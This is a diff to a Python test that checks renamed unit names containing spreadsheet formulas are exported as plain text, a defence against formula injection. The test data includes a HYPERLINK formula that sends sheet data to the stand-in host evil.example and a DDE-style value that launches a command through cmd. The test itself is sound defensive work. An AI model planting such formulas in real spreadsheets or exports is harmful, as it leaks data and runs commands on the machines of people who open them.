@@ -153,14 +153,15 @@ def test_fin004_unit_renamed_to_a_formula_exports_as_text(databases, tmp_path):
     from sqlalchemy import create_engine
 
     from app import create_app
-    from auth.admin import Actor, update_unit_names
     from exports.specs import encode_spec
+    from metadata import service
     from tests.conftest import make_settings, seeded_sqlite_copy
 
     url = seeded_sqlite_copy(databases, tmp_path)
     engine = create_engine(url)
     evil = '=HYPERLINK("http://evil.example/?d="&\'Dữ liệu\'!B2,"Cục Thống kê")'
-    update_unit_names(engine, "TK", name_vi=evil, name_en="@SUM(1+1)*cmd|' /C calc'!A0", actor=Actor("test"))
+    assert service.update(engine, "units", "TK", {"name_vi": evil, "name_en": "@SUM(1+1)*cmd|' /C calc'!A0"},
+                          actor=service.Actor("test")).applied
     engine.dispose()
     server = create_app(make_settings(url, tmp_path))
     try:
